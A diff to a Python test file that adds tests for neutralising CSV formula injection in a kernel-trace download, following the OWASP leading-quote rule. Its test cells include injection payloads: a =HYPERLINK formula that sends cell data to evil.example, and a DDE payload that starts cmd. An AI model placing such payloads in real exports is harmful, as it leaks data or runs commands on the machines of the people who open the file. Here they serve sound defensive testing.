@@ -251,7 +251,131 @@ def test_the_bytes_are_what_csv_writer_writes(launches):
                 *row[17:],
             ]
         )
-    assert b"".join(encoders.encode_kernels_csv(iter(rows))) == written.getvalue().encode()
+    assert b"".join(encoders.encode_kernels_csv(iter(rows), raw=True)) == written.getvalue().encode()
+
+
+# --- formula cells (issue 31, item 3) -----------------------------------------------------------------
+
+# OWASP's CSV injection rule, written here from its text: a cell that begins with one of these
+# is prefixed with a single quote; any other cell is left as it is.
+OWASP_STARTS = ["=", "+", "-", "@", "\t", "\r"]
+CELLS = [
+    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(1,2)",
+    "\t=1+1",
+    "\r=1+1",
+    "plain =not at the start",
+    "_Z6vecAddPdS_S_i",
+    "'already quoted",
+]
+
+
+def owasp(cell: str) -> str:
+    return "'" + cell if cell[:1] in OWASP_STARTS else cell
+
+
+@pytest.mark.parametrize("cell", CELLS)
+def test_every_text_cell_that_would_start_a_formula_gets_a_leading_quote(cell):
+    # ctx, name, trace_file and step all hold the cell; the numbers are negative where a
+    # column can be, and stay numbers.
+    row = (cell, 1, cell, cell, 1, 1, 1, 32, 1, 1, 1, 32, -5, -5, False, 0, -1, cell, -7)
+    text = b"".join(encoders.encode_kernels_csv(iter([row]))).decode()
+    (written,) = list(csv.reader(io.StringIO(text, newline="")))[1:]
+    by_column = dict(zip(HEADER, written, strict=True))
+    for column in ("ctx", "name", "trace_file", "step"):
+        assert by_column[column] == owasp(cell), column
+    assert [by_column[c] for c in ("total_insts", "total_reported_insts", "stream", "duration_ns")] == [
+        "-5",
+        "-5",
+        "-1",
+        "-7",
+    ]
+    raw = b"".join(encoders.encode_kernels_csv(iter([row]), raw=True)).decode()
+    (as_stored,) = list(csv.reader(io.StringIO(raw, newline="")))[1:]
+    assert dict(zip(HEADER, as_stored, strict=True))["name"] == cell
+
+
+@given(st.text(max_size=30))
+def test_any_text_cell_reads_back_as_the_owasp_rule_says(text):
+    row = (text, 1, text, text, 1, 1, 1, 32, 1, 1, 1, 32, 5, 5, False, -1, None, text, 7)
+    written = b"".join(encoders.encode_kernels_csv(iter([row]))).decode()
+    (read_back,) = list(csv.reader(io.StringIO(written, newline="")))[1:]
+    by_column = dict(zip(HEADER, read_back, strict=True))
+    assert [by_column[c] for c in ("ctx", "name", "trace_file", "step")] == [owasp(text)] * 4
+
+
+@pytest.fixture
+def formulas(make_trace):
+    trace = make_trace("formulas", state=TraceState.READY)
+    launches = [
+        dict(zip(HEADER, kernel_row(n + 1, name=cell, ctx="=0x1" if n % 2 else "0x1"), strict=True))
+        for n, cell in enumerate(CELLS)
+    ]
+    store_kernels(trace.pk, launches)
+    Trace.objects.filter(pk=trace.pk).update(kernel_count=len(launches))
+    return trace
+
+
+def test_the_download_neutralises_formulas_and_raw_1_gives_the_detail(api, formulas):
+    response = api.get("/api/traces/formulas/kernels.csv")
+    rows = list(csv.reader(io.StringIO(content(response).decode(), newline="")))[1:]
+    assert {int(row[1]): row[2] for row in rows} == {n: owasp(cell) for n, cell in enumerate(CELLS, 1)}
+    assert {row[0] for row in rows} == {"0x1", "'=0x1"}
+    raw = api.get("/api/traces/formulas/kernels.csv?raw=1")
+    assert raw.status_code == 200
+    assert raw["ETag"] != response["ETag"], "two representations, two ETags"
+    raw_rows = list(csv.reader(io.StringIO(content(raw).decode(), newline="")))[1:]
+    detail = orjson.loads(content(api.get("/api/traces/formulas")))
+    assert raw_rows == [expected_rows(kernel) for kernel in detail["kernels"]]
+    assert api.get("/api/traces/formulas/kernels.csv?raw=0")["ETag"] == response["ETag"]
+
+
+def test_raw_is_0_or_1(api, formulas):
+    response = api.get("/api/traces/formulas/kernels.csv?raw=yes")
+    assert response.status_code == 400
+    assert response.json()["detail"] == "raw must be 0 or 1, not 'yes'"
+
+
+def test_a_spreadsheet_opens_the_formulas_as_text(api, formulas, tmp_path):
+    """The outside check: LibreOffice converts the download to CSV again; a formula it ran
+    would come back as its value, text comes back as written."""
+    import shutil
+    import subprocess
+
+    soffice = shutil.which("soffice") or shutil.which("libreoffice")
+    if soffice is None:
+        pytest.skip(
+            "needs LibreOffice (soffice) for the outside check; the OWASP rule is tested cell by cell"
+        )
+
+    def opened(query: str) -> list[str]:
+        """The names as LibreOffice reads the download (line breaks within a cell as LF)."""
+        folder = tmp_path / (query or "neutralised")
+        folder.mkdir()
+        (folder / "in.csv").write_bytes(content(api.get(f"/api/traces/formulas/kernels.csv{query}")))
+        subprocess.run(
+            [
+                soffice,
+                "--headless",
+                "--convert-to",
+                "csv",
+                "--outdir",
+                str(folder / "out"),
+                str(folder / "in.csv"),
+            ],
+            check=True,
+            capture_output=True,
+            timeout=120,
+        )
+        rows = list(csv.reader(io.StringIO((folder / "out" / "in.csv").read_text(), newline="")))[1:]
+        return sorted(row[2] for row in rows)
+
+    as_text = sorted(cell.replace("\r", "\n").lstrip("'") for cell in CELLS)
+    assert sorted(cell.lstrip("'") for cell in opened("")) == as_text
+    # The check can fail: the raw text, opened, runs its formulas (=HYPERLINK shows "click", -2+3 is 1).
+    assert sorted(cell.lstrip("'") for cell in opened("?raw=1")) != as_text
 
 
 # --- a large trace: chunks, codings, memory -----------------------------------------------------------
